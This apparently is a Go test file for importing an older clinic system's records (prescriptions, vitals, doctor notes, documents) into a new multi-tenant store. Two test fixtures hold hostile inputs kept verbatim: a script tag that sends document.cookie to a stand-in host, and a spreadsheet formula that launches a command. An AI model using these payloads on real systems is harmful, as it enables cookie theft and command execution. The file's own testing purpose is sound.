package legacy_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/uuid"

	"github.com/cloister-health/cloister/internal/access"
	"github.com/cloister-health/cloister/internal/document"
	"github.com/cloister-health/cloister/internal/legacy"
	"github.com/cloister-health/cloister/internal/testkit"
	"github.com/cloister-health/cloister/tenants"
)

// of joins a table to the row of the file that its records came from.
func of(table string) string {
	return " from clinic_alpha." + table + " x join clinic_alpha.identifiers i on i.record_id = x.id and i.entity = '" + table + "' and i.system = 'legacy.row' "
}

// TestRecords compares what stands in the clinic with what must come of the
// file: numbers, states, doses, readings, notes and what they hang on.
func TestRecords(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.emptied(t, "clinic_alpha")
	report := w.imported(t, "alpha", legacy.Options{})
	if got := report.Made; got != (legacy.Made{Visits: 3, UnknownUser: true}) {
		t.Errorf("made: %+v", got)
	}
	for sql, want := range map[string]string{
		// Numbers without a gap, by the clinic's year, in the order of writing.
		"select string_agg(y || ' ' || n || ' ' || lo || ' ' || hi, ', ' order by y) from (select substr(number, 4, 4) y, count(*) n, min(number) lo, max(number) hi from clinic_alpha.prescriptions group by 1) s": "2025 48 RX-2025-00001 RX-2025-00048, 2026 71 RX-2026-00001 RX-2026-00071",
		"select string_agg(kind || ' ' || period || ' ' || value, ', ' order by period) from clinic_alpha.counters where kind = 'prescription'":                                                                     "prescription 2025 48, prescription 2026 71",
		"select count(*) from (select number, row_number() over (partition by substr(number, 4, 4) order by created_at) n from clinic_alpha.prescriptions) s where right(number, 5)::int <> n":                      "0",
		"select count(*)" + of("prescriptions") + "where i.value <> 'hospital_prescription:' || x.old_number":                                                                                                       "0",
		"select string_agg(state || ' ' || n, ', ' order by state) from (select state, count(*) n from clinic_alpha.prescriptions group by 1) s":                                                                    "cancelled 1, completed 114, draft 4",
		"select number || ' ' || state || ' ' || cancel_reason from clinic_alpha.prescriptions where old_number = '58'":                                                                                             "RX-2026-00008 cancelled not recorded",
		"select count(*) from clinic_alpha.prescriptions where state = 'completed' and (issued_at <> created_at or ended_at <> created_at)":                                                                         "0",
		"select count(*) from clinic_alpha.prescription_lines": "227",
		"select string_agg(state || ' ' || n, ', ' order by state) from (select state, count(*) n from clinic_alpha.test_requests group by 1) s":         "reported 8, requested 81",
		"select count(*) from clinic_alpha.consultations where state <> 'finished'":                                                                      "0",
		"select count(*) from clinic_alpha.consultations":                                                                                                "119",
		"select count(*) from clinic_alpha.diagnoses":                                                                                                    "18",
		"select count(*) || ' ' || count(note) filter (where note <> '') from clinic_alpha.vitals":                                                       "23 7",
		"select count(*) || ' ' || count(*) filter (where not active) || ' ' || count(*) filter (where shared) from clinic_alpha.prescription_templates": "14 1 0",
		"select count(*) from clinic_alpha.formulary":                                                                                                    "121",
		"select count(*) from clinic_alpha.test_catalogue":                                                                                               "22",
		"select count(*) from clinic_alpha.documents":                                                                                                    "13",
		// Each hangs on the visit of its day; three days have none but the one made for it.
		"select count(*) from clinic_alpha.prescriptions p join clinic_alpha.visits v on v.id = p.visit_id where v.patient_id <> p.patient_id or v.day <> (p.created_at at time zone 'Asia/Kolkata')::date or v.state = 'cancelled'": "0",
		"select count(*) from clinic_alpha.visits where state_reason = 'no visit in the older system; this one stands for its prescription'":                                                                                         "3",
		// Who isn't known is said to be.
		"select count(*) || ' ' || count(distinct doctor_id) from clinic_alpha.prescriptions p join clinic_alpha.users u on u.id = p.doctor_id where u.full_name = 'unknown (older system)'": "8 1",
		"select role || ' ' || active || ' ' || (password_hash is null) || ' ' || coalesce(email, 'none') from clinic_alpha.users where full_name = 'unknown (older system)'":                "doctor false true none",
		"select u.username" + of("prescriptions") + "join clinic_alpha.users u on u.id = x.doctor_id where i.value = 'hospital_prescription:3'":                                              "dr.walimbe",
		// What can be read is read; what can't stands as it was written.
		"select medicine || '|' || strength || '|' || morning || afternoon || evening || night || '|' || days || '|' || quantity || '|' || food || '|' || instructions" + of("prescription_lines") + "where i.value = 'hospital_medicine:4'":                                            "Paracetamol|650mg|4404|3|1|after|",
		"select coalesce(days, 0) || '|' || instructions" + of("prescription_lines") + "where i.value = 'hospital_medicine:9'":                                                                                                                                                          "0|as needed",
		"select morning + afternoon + evening + night || '|' || days || '|' || instructions" + of("prescription_lines") + "where i.value = 'hospital_medicine:13'":                                                                                                                      "0|5|1 time a day",
		"select sos || '|' || days" + of("prescription_lines") + "where i.value = 'hospital_medicine:8'":                                                                                                                                                                                "true|3",
		"select evening || '|' || night" + of("prescription_lines") + "where i.value = 'hospital_medicine:7'":                                                                                                                                                                           "4|0",
		"select '[' || strength || ']'" + of("prescription_lines") + "where i.value = 'hospital_medicine:26'":                                                                                                                                                                           "[]",
		"select count(*) from clinic_alpha.prescription_lines where not listed":                                                                                                                                                                                                         fmt.Sprint(notListed(t)),
		"select coalesce(systolic, 0) || '|' || note" + of("vitals") + "where i.value = 'hospital_vitals:2'":                                                                                                                                                                            "0|BP: banana",
		"select coalesce(systolic, 0) || '|' || pulse || '|' || note" + of("vitals") + "where i.value = 'hospital_vitals:7'":                                                                                                                                                            "0|70|BP: 80/120",
		"select coalesce(pulse, 0) || '|' || note" + of("vitals") + "where i.value = 'hospital_vitals:8'":                                                                                                                                                                               "0|Pulse: 720",
		"select temperature_tenths || temperature_unit || '|' || sugar || '|' || sugar_kind" + of("vitals") + "where i.value = 'hospital_vitals:9'":                                                                                                                                     "372C|96|fasting",
		"select sugar || '|' || sugar_kind || '|' || (taken_at at time zone 'utc')" + of("vitals") + "where i.value = 'hospital_vitals:4'":                                                                                                                                              "110||2025-11-27 05:12:36.498435",
		"select sugar || '|' || sugar_kind" + of("vitals") + "where i.value = 'hospital_vitals:13'":                                                                                                                                                                                     "160|after_meal",
		"select x.complaint || '|' || x.findings || '|' || x.advice || '|' || d.title" + of("consultations") + "join clinic_alpha.diagnoses d on d.consultation_id = x.id where i.value = 'hospital_doctornotes:1'":                                                                     "Breathless at night, wheeze|Bilateral wheeze|<script>fetch('//example.invalid/'+document.cookie)</script>Rest|Bronchial asthma",
		"select complaint" + of("consultations") + "where i.value = 'hospital_doctornotes:3'":                                                                                                                                                                                           "=cmd|' /C calc'!A0",
		"select length(d.title) || ' ' || d.code" + of("consultations") + "join clinic_alpha.diagnoses d on d.consultation_id = x.id where i.value = 'hospital_doctornotes:7'":                                                                                                          "904 ",
		"select string_agg(plan, ' | ' order by plan) from clinic_alpha.consultations where plan <> ''":                                                                                                                                                                                 "Admission recommended: Breathless, keep under watch | Admission recommended: Dehydration, needs drip | Admission recommended: High sugar | Admission recommended: Observation <24h>",
		"select x.name || '|' || x.note || '|' || x.result || '|' || x.state || '|' || c.name" + of("test_requests") + "join clinic_alpha.test_catalogue c on c.id = x.test_id where i.value = 'hospital_test:5'":                                                                       "Complete Blood Count (CBC)|Cbc|Hb 9.8 g/dl, TLC 11200, platelets 1.9 lakh|reported|Complete Blood Count (CBC)",
		"select result" + of("test_requests") + "where i.value = 'hospital_test:62'":                                                                                                                                                                                                    "Grade I fatty liver\r\nno stones",
		"select result || x.state" + of("test_requests") + "where i.value = 'hospital_test:14'":                                                                                                                                                                                         "reported",
		"select (test_id is null)::text" + of("test_requests") + "where i.value = 'hospital_test:27'":                                                                                                                                                                                   "true",
		"select name || '|' || strength || '|' || array_to_string(strengths, ';') || '|' || active || '|' || coalesce(days, 0)" + of("formulary") + "where i.value = 'hospital_mastermedicine:1'":                                                                                       "Paracetamol|500mg|500mg;650mg|true|3",
		"select kind || '|' || category || '|' || (i.facts ->> 'description')" + of("test_catalogue") + "where i.value = 'hospital_mastertest:1'":                                                                                                                                       "blood|Pathology|Haemoglobin, white cells, platelets",
		"select kind" + of("test_catalogue") + "where i.value = 'hospital_mastertest:23'":                                                                                                                                                                                               "ct",
		"select name || '|' || keyword || '|' || description || '|' || jsonb_array_length(sheet -> 'lines') || '|' || (sheet #>> '{lines,0,dose}') || '|' || (sheet #>> '{lines,0,days}')" + of("prescription_templates") + "where i.value = 'hospital_standardprescriptiontemplate:1'": "Cold and cough|cold|Adults|4|1-1-1|3",
		"select sheet::text" + of("prescription_templates") + "where i.value = 'hospital_standardprescriptiontemplate:8'":                                                                                                                                                               `{"lines": [], "tests": []}`,
		"select sheet #>> '{lines,1,instructions}'" + of("prescription_templates") + "where i.value = 'hospital_standardprescriptiontemplate:4'":                                                                                                                                        "3 times a day; SOS",
		"select kind || '|' || title || '|' || coalesce(dated_on::text, '') || '|' || note || '|' || media_type || '|' || u.username" + of("documents") + "join clinic_alpha.users u on u.id = x.uploaded_by where i.value = 'hospital_testreport:5'":                                   "other|HbA1c|2026-01-04|-- see page 2|application/pdf|reception1",
		"select kind || '|' || title || '|' || u.full_name" + of("documents") + "join clinic_alpha.users u on u.id = x.uploaded_by where i.value = 'hospital_medicalreport:7'":                                                                                                          "other|untitled.png|unknown (older system)",
		"select kind || '|' || note || '|' || (i.facts ->> 'report_file')" + of("documents") + "where i.value = 'hospital_medicalreport:5'":                                                                                                                                             "lab|जुना अहवाल|medical_reports/रक्त अहवाल १.pdf",
		// Every change says who did it: the import, and nobody else.
		"select count(*) from clinic_alpha.trail where actor <> 'system:" + tenants.SystemID("import").String() + "' or reason <> 'import of the older system''s file'":                                                                                           "0",
		"select string_agg(entity || ' ' || n, ', ' order by entity) from (select entity, count(*) n from clinic_alpha.trail where action = 'insert' and entity in ('prescriptions', 'prescription_lines', 'vitals', 'documents', 'test_requests') group by 1) s": "documents 13, prescription_lines 227, prescriptions 119, test_requests 89, vitals 23",
	} {
		if got := w.one(t, sql); got != want {
			t.Errorf("%s\n gives %s\n want  %s", sql, got, want)
		}
	}
}

// notListed counts, without the importer, the lines whose name stands in no entry.
func notListed(t *testing.T) int {
	t.Helper()
	plain := func(s string) string {
		return strings.Map(func(r rune) rune {
			if strings.ContainsRune(" .+-", r) {
				return -1
			}
			return r
		}, strings.ToLower(s))
	}
	listed := map[string]bool{}
	for _, name := range column(t, "SELECT medicine_name FROM hospital_mastermedicine") {
		listed[plain(name)] = true
	}
	n := 0
	for _, name := range column(t, "SELECT replace(replace(m.medicine_name, char(160), ''), char(9), '') FROM hospital_medicine m JOIN hospital_prescription p ON p.id = m.prescription_id JOIN hospital_patient q ON q.id = p.patient_id") {
		if !listed[plain(name)] {
			n++
		}
	}
	return n
}

// TestImportedFiles: what a doctor opens is the old file, byte for byte, and what
// lies in the store is not.
func TestImportedFiles(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.emptied(t, "clinic_alpha")
	w.imported(t, "alpha", legacy.Options{})
	docs := document.NewService(w.db, w.keys, w.store)
	ctx := tenants.WithScope(t.Context(), tenants.Scope{RequestID: "test", Clinic: w.clinic(t, "alpha"), Actor: tenants.Actor{Kind: access.User, ID: doctorOf(t, w), Role: access.Doctor}})
	rows := w.rows(t, "select x.id || ' ' || (i.facts ->> 'report_file')"+of("documents")+"order by 1")
	if len(rows) != 13 {
		t.Fatalf("%d documents", len(rows))
	}
	for _, row := range rows {
		id, path, _ := strings.Cut(row, " ")
		old, err := os.ReadFile(filepath.Join(mediaFolder, path))
		if err != nil {
			t.Fatal(err)
		}
		_, content, err := docs.Open(ctx, uuid.MustParse(id))
		if err != nil {
			t.Fatal(err)
		}
		got, err := io.ReadAll(content)
		if err != nil || content.Close() != nil || !bytes.Equal(got, old) {
			t.Errorf("%s: %d bytes of %d, %v", path, len(got), len(old), err)
		}
	}
	sealed := 0
	err := filepath.WalkDir(w.folder, func(path string, e os.DirEntry, err error) error {
		if err != nil || e.IsDir() {
			return err
		}
		content, err := os.ReadFile(path)
		if bytes.Contains(content, []byte("%PDF")) || bytes.Contains(content, []byte("PNG")) {
			t.Errorf("%s lies open", e.Name())
		}
		sealed++
		return err
	})
	if err != nil || sealed != 13 {
		t.Errorf("%d files in the store, %v", sealed, err)
	}
}

func doctorOf(t *testing.T, w *world) uuid.UUID {
	t.Helper()
	return uuid.MustParse(w.one(t, "select id::text from clinic_alpha.users where username = 'dr.mahale'"))
}

// TestNothingIsStoredForNothing: neither by a dry run nor by one that is undone.
func TestNothingIsStoredForNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.emptied(t, "clinic_alpha")
	inStore := func() (n int) {
		if err := filepath.WalkDir(w.folder, func(_ string, e os.DirEntry, err error) error {
			if err == nil && e.Type().IsRegular() {
				n++
			}
			return err
		}); err != nil {
			t.Fatal(err)
		}
		return n
	}
	w.imported(t, "alpha", legacy.Options{DryRun: true})
	if n := inStore(); n != 0 {
		t.Errorf("a dry run stored %d files", n)
	}
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	seen := 0
	if _, err := legacy.Import(ctx, w.db, w.clinic(t, "alpha"), testPlan(t), w.options(func(what string, _, _ int) {
		if seen = inStore(); what == "files" && seen == 9 {
			cancel()
		}
	})); err == nil || seen != 9 {
		t.Fatalf("stopped with %d files: %v", seen, err)
	}
	if n := inStore(); n != 0 {
		t.Errorf("a stopped import left %d files", n)
	}
	w.Exec(t, "update platform.plans set max_storage_bytes = 5000")
	if _, err := legacy.Import(t.Context(), w.db, w.clinic(t, "alpha"), testPlan(t), w.options(nil)); err == nil || !strings.Contains(err.Error(), "plan allows 5000 bytes of files") {
		t.Errorf("error %v", err)
	}
	if n := inStore(); n != 0 {
		t.Errorf("a refused import left %d files", n)
	}
}

// TestStarterLists: the clinic's own medicines take the place of the starter's,
// whose generic names and classes they keep, and a test that is there stays.
func TestStarterLists(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.emptied(t, "clinic_alpha")
	w.Exec(t, `set session_replication_role = replica;
		insert into clinic_alpha.formulary (id, name, generic, form, strengths, route, class, source) values
			(gen_random_uuid(), 'Paracetamol', 'Paracetamol', 'tablet', '{}', 'oral', 'analgesic', 'starter'),
			(gen_random_uuid(), 'Amoxicillin', 'Amoxicillin', 'suspension', '{}', 'oral', 'penicillin', 'starter'),
			(gen_random_uuid(), 'Zinc oxide', 'Zinc oxide', 'ointment', '{}', 'topical', '', 'starter');
		insert into clinic_alpha.formulary (id, name, form, strength, route) values (gen_random_uuid(), 'IBUPROFEN', 'tablet', '1 g', '');
		insert into clinic_alpha.test_catalogue (id, name, kind, code, source) values (gen_random_uuid(), 'HBA1C', 'blood', '4548-4', 'starter')`)
	report := w.imported(t, "alpha", legacy.Options{})
	if report.Made.StartersRetired != 1 || report.Made.MedicinesListed != 1 || report.Made.TestsListed != 1 || report.Tables["hospital_mastermedicine"].Imported != 121 {
		t.Errorf("made: %+v", report.Made)
	}
	for sql, want := range map[string]string{
		"select string_agg(source || ' ' || active || ' ' || generic || ' ' || class, ', ' order by source) from clinic_alpha.formulary where name = 'Paracetamol' and form = 'tablet'":                             "clinic true Paracetamol analgesic, starter false Paracetamol analgesic",
		"select string_agg(name || ' ' || form || ' ' || active || ' ' || generic || ' ' || class, ', ' order by name, form) from clinic_alpha.formulary where name like 'Amoxicillin%' and name not like '%Clav%'": "Amoxicillin capsule true Amoxicillin penicillin, Amoxicillin suspension true Amoxicillin penicillin, Amoxicillin Syrup syrup true Amoxicillin penicillin",
		"select strength from clinic_alpha.formulary where name ilike 'ibuprofen' and form = 'tablet'":                                                                                                              "1 g",
		"select active::text from clinic_alpha.formulary where name = 'Zinc oxide'":                                                                                                                                 "true",
		"select count(*) || ' ' || max(code) from clinic_alpha.test_catalogue where name ilike 'hba1c'":                                                                                                             "1 4548-4",
		"select count(*) || ' ' || count(distinct t.code) from clinic_alpha.test_requests t join clinic_alpha.test_catalogue c on c.id = t.test_id where c.name = 'HBA1C'":                                          "7 1",
		"select count(*) from clinic_alpha.prescription_lines where medicine = 'Paracetamol' and form = 'tablet' and generic <> 'Paracetamol'":                                                                      "0",
	} {
		if got := w.one(t, sql); got != want {
			t.Errorf("%s\n gives %s\n want  %s", sql, got, want)
		}
	}
}

// TestRecordsOfALaterCopy: rows that came to old prescriptions meanwhile are
// taken, beside what is there and without changing it.
func TestRecordsOfALaterCopy(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.emptied(t, "clinic_alpha")
	w.imported(t, "alpha", legacy.Options{})
	path := changed(t,
		"DELETE FROM hospital_medicine WHERE id = 10",
		"INSERT INTO hospital_medicine SELECT 900, 'Later tablet', dosage, '5 days', '', prescription_id, clinic_id, 'after', 'night', 'tablet', 5, 1 FROM hospital_medicine WHERE id = 9",
		"UPDATE hospital_test SET test_name = 'Something else' WHERE id = 5",
		"INSERT INTO hospital_test SELECT 900, test_type, 'CBC', '', NULL, '', 0, prescription_id, clinic_id FROM hospital_test WHERE id = 5",
		"INSERT INTO hospital_doctornotes SELECT 900, 'Later complaint', 'Later diagnosis', '', 'Later advice', '2026-04-03 05:00:00', '2026-04-03 05:00:00', 7, clinic_id, NULL FROM hospital_doctornotes WHERE id = 1",
		"INSERT INTO hospital_prescription SELECT 900, '2026-04-02 05:00:00', 'completed', 2, 1, clinic_id, '', 0 FROM hospital_prescription WHERE id = 1",
		"INSERT INTO hospital_standardtemplatemedicine SELECT 900, 'Later', dosage, 1, '5 days', 'tablet', 5, 'night', 'after', '', 1 FROM hospital_standardtemplatemedicine WHERE id = 1")
	report := w.importedPlan(t, "alpha", planned(t, path), legacy.Options{})
	if report.Totals.Imported != 4 || report.Tables["hospital_standardtemplatemedicine"].Skips[legacy.TemplateKept].Rows != 1 {
		t.Errorf("totals %+v", report.Totals)
	}
	for sql, want := range map[string]string{
		"select string_agg(position || ' ' || medicine, ', ' order by position) from clinic_alpha.prescription_lines l join clinic_alpha.prescriptions p on p.id = l.prescription_id where p.old_number = '7'": "1 Pantoprazole, 2 Antacid Suspension, 3 Domperidone, 4 Later tablet",
		"select string_agg(name, ', ' order by id) from clinic_alpha.test_requests t where visit_id = (select visit_id from clinic_alpha.prescriptions where old_number = '8')":                                "Complete Blood Count (CBC), Complete Blood Count (CBC) (row 900)",
		"select string_agg(body, ', ' order by body) from clinic_alpha.addenda":                                                                    "Later advice, Later complaint, Later diagnosis",
		"select number || ' ' || old_number from clinic_alpha.prescriptions order by number desc limit 1":                                          "RX-2026-00072 900",
		"select jsonb_array_length(sheet -> 'lines')" + of("prescription_templates") + "where i.value = 'hospital_standardprescriptiontemplate:1'": "4",
	} {
		if got := w.one(t, sql); got != want {
			t.Errorf("%s\n gives %s\n want  %s", sql, got, want)
		}
	}
	if again := w.importedPlan(t, "alpha", planned(t, path), legacy.Options{}); again.Totals.Imported != 0 {
		t.Errorf("again: %+v", again.Totals)
	}
}

// TestNumbersGoOn: after an import the next prescription takes the next number.
func TestNumbersGoOn(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.emptied(t, "clinic_alpha")
	w.imported(t, "alpha", legacy.Options{})
	year := time.Now().In(time.FixedZone("IST", 19800)).Format("2006")
	want := fmt.Sprintf("RX-%s-%05d", year, map[string]int{"2025": 49, "2026": 72}[year]+map[bool]int{true: 1}[year != "2025" && year != "2026"])
	tx := w.As(t, testkit.Alpha, access.Jobs)
	var number string
	err := tx.QueryRow(t.Context(), `insert into prescriptions (id, visit_id, patient_id, doctor_id, state, issued_at)
		select $1, p.visit_id, p.patient_id, p.doctor_id, 'issued', now() from prescriptions p where p.old_number = '1' returning number`, uuid.New()).Scan(&number)
	if err != nil || number != want {
		t.Errorf("the next number is %s, want %s, %v", number, want, err)
	}
	for _, bad := range []string{"RX-2026-00500", "RX-2030-00001", "RX-1"} {
		tx := w.As(t, testkit.Alpha, access.Jobs)
		_, err := tx.Exec(t.Context(), `insert into prescriptions (id, number, old_number, visit_id, patient_id, doctor_id, state, issued_at)
			select $1, $2, '1', p.visit_id, p.patient_id, p.doctor_id, 'issued', now() from prescriptions p where p.old_number = '1'`, uuid.New(), bad)
		if err == nil {
			t.Errorf("%s was taken without a block", bad)
		}
		if err := tx.Rollback(t.Context()); err != nil {
			t.Fatal(err)
		}
	}
}

// TestImportedTwiceStoresOnce: the second run reads no file again into the store.
func TestImportedTwiceStoresOnce(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.emptied(t, "clinic_alpha")
	w.imported(t, "alpha", legacy.Options{})
	before := looked(t, filepath.Join(w.folder, testkit.Alpha.ID.String()))
	w.imported(t, "alpha", legacy.Options{})
	if diff := cmp.Diff(len(before), len(looked(t, filepath.Join(w.folder, testkit.Alpha.ID.String())))); diff != "" || len(before) < 13 {
		t.Errorf("files in the store: %s (%d before)", diff, len(before))
	}
}
